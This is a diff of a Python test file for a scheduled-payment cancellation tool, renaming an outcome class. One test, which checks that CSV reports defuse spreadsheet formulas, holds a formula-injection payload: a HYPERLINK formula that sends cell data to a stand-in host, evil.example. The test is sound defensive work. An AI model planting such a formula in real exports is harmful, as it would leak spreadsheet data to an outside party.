@@ -15,7 +15,7 @@ from typing import Any
 
 import pytest
 from schedcancel._bulk import BulkProgress
-from schedcancel._journal import CancelOutcome, OutcomeKind, read_journal
+from schedcancel._journal import BulkOutcome, OutcomeKind, read_journal
 from schedcancel.cli import RunReport, build_parser, outcome_text
 from schedcancel.cli._common import _Streams
 from schedcancel.cli._run import _write_status_report
@@ -424,7 +424,7 @@ def test_kill_and_resume_sends_nothing_final_twice(
 
 def test_a_read_without_a_next_charge_shows_its_status_only() -> None:
     """The per-id line of a get answer without scheduledAt (malformed, say)."""
-    outcome = CancelOutcome(schedule_id="SC-1", kind=OutcomeKind.READ, new_status="PAUSED")
+    outcome = BulkOutcome(schedule_id="SC-1", kind=OutcomeKind.READ, new_status="PAUSED")
     assert outcome_text(outcome) == "SC-1\tread\tPAUSED"
 
 
@@ -465,13 +465,13 @@ def test_csv_report_defuses_formulas(tmp_path: Path) -> None:
     """Text a spreadsheet would run as a formula is written as text; JSON Lines keeps it."""
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     outcomes = [
-        CancelOutcome(
+        BulkOutcome(
             schedule_id="SC-1",
             kind=OutcomeKind.READ,
             new_status="ACTIVE",
             merchant_meta_data=hostile,
         ),
-        CancelOutcome(schedule_id="SC-2", kind=OutcomeKind.FAILED, error_code=-5, error="@SUM(1)"),
+        BulkOutcome(schedule_id="SC-2", kind=OutcomeKind.FAILED, error_code=-5, error="@SUM(1)"),
     ]
     csv_path, jsonl_path = tmp_path / "r.csv", tmp_path / "r.jsonl"
     write_report(csv_path, "csv", outcomes)
